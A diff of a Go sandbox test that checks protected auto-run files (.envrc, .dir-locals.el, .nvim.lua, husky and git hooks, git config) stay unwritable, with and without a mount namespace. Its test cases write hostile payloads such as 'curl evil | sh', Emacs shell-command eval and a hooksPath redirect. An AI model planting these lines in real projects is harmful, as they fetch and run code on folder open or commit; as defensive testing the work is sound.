@@ -1,15 +1,18 @@
 package sandbox_test
 
 import (
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"pp-lsp/internal/testenv"
+	"pp-lsp/server/actuate/sandbox"
 )
 
 // TestTheGatesProtectedNamesStayUnwritable: every place internal/protname
@@ -44,27 +47,44 @@ func TestTheGatesProtectedNamesStayUnwritable(t *testing.T) {
 		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
 		require.NoError(t, os.WriteFile(p, []byte(text), 0o644))
 	}
-	sb := w.sandbox(t)
-	for _, tc := range []struct{ name, cmd string }{
-		{"a new .envrc at a root's top", "echo 'curl evil | sh' > .envrc"},
-		{"a new .dir-locals.el at a root's top", "echo '((nil . ((eval . (shell-command \"id\")))))' > .dir-locals.el"},
-		{"an existing .envrc below", "echo 'curl evil | sh' >> notes/.envrc"},
-		{"an existing .dir-locals.el below, replaced", "echo '((nil . ((eval . (kill-emacs)))))' > notes/x && mv -f notes/x notes/.dir-locals.el"},
-		{"a new .nvim.lua beside them", "echo 'os.execute(\"id\")' > notes/.nvim.lua"},
-		{"a husky hook", "echo 'curl evil | sh' >> web/.husky/pre-commit"},
-		{"a new husky hook", "echo 'curl evil | sh' > web/.husky/post-merge"},
-		{"the pre-commit configuration", "echo 'repos: [{repo: local}]' > web/.pre-commit-config.yaml"},
-		{"a new lefthook.yml beside it", "echo 'pre-commit: {commands: {x: {run: id}}}' > web/lefthook.yml"},
-		{"a deeper repository's hooks", "echo 'curl evil | sh' > code/sub/deep/.git/hooks/pre-commit"},
-		{"a deeper repository's config", "printf '[core]\\nhooksPath = /tmp\\n' >> code/sub/deep/.git/config"},
-	} {
-		t.Run(tc.name, func(t *testing.T) {
-			code, out, err := sh(t, sb, w.root, tc.cmd)
-			require.NoError(t, err)
-			assert.NotEqual(t, 0, code, out)
-			assert.Regexp(t, "ermission denied|cross-device link", out, "refused by the kernel")
-		})
+	// With the mount namespace (the protected names bound read-only,
+	// their folders writable: EROFS, EBUSY, and a new name moved aside
+	// after the run) and without it (the folders granted entry by entry).
+	for _, noNS := range []bool{false, true} {
+		sb := w.sandbox(t, func(c *sandbox.Config) { c.NoMountNamespace = noNS })
+		ns := strings.Contains(sb.Describe(), "bound read-only in a mount namespace")
+		for _, tc := range []struct{ name, cmd string }{
+			{"a new .envrc at a root's top", "echo 'curl evil | sh' > .envrc"},
+			{"a new .dir-locals.el at a root's top", "echo '((nil . ((eval . (shell-command \"id\")))))' > .dir-locals.el"},
+			{"an existing .envrc below", "echo 'curl evil | sh' >> notes/.envrc"},
+			{"an existing .dir-locals.el below, replaced", "echo '((nil . ((eval . (kill-emacs)))))' > notes/x && mv -f notes/x notes/.dir-locals.el"},
+			{"a new .nvim.lua beside them", "echo 'os.execute(\"id\")' > notes/.nvim.lua"},
+			{"a husky hook", "echo 'curl evil | sh' >> web/.husky/pre-commit"},
+			{"a new husky hook", "echo 'curl evil | sh' > web/.husky/post-merge"},
+			{"the pre-commit configuration", "echo 'repos: [{repo: local}]' > web/.pre-commit-config.yaml"},
+			{"a new lefthook.yml beside it", "echo 'pre-commit: {commands: {x: {run: id}}}' > web/lefthook.yml"},
+			{"a deeper repository's hooks", "echo 'curl evil | sh' > code/sub/deep/.git/hooks/pre-commit"},
+			{"a deeper repository's config", "printf '[core]\\nhooksPath = /tmp\\n' >> code/sub/deep/.git/config"},
+		} {
+			t.Run(fmt.Sprintf("%s, mount namespace %v", tc.name, ns), func(t *testing.T) {
+				code, out, err := sh(t, sb, w.root, tc.cmd)
+				if ns && err != nil {
+					// A new name in a folder the command may now write.
+					assert.ErrorContains(t, err, "moved it aside")
+					return
+				}
+				require.NoError(t, err)
+				assert.NotEqual(t, 0, code, out)
+				want := "ermission denied|cross-device link"
+				if ns {
+					want += "|Read-only file system|Device or resource busy"
+				}
+				assert.Regexp(t, want, out, "refused by the kernel")
+			})
+		}
+		sb.Close()
 	}
+	sb := w.sandbox(t)
 	assert.NoFileExists(t, filepath.Join(w.root, ".envrc"))
 	assert.NoFileExists(t, filepath.Join(w.root, "notes", ".nvim.lua"))
 	assert.NoFileExists(t, filepath.Join(w.root, "code", "sub", "deep", ".git", "hooks", "pre-commit"))
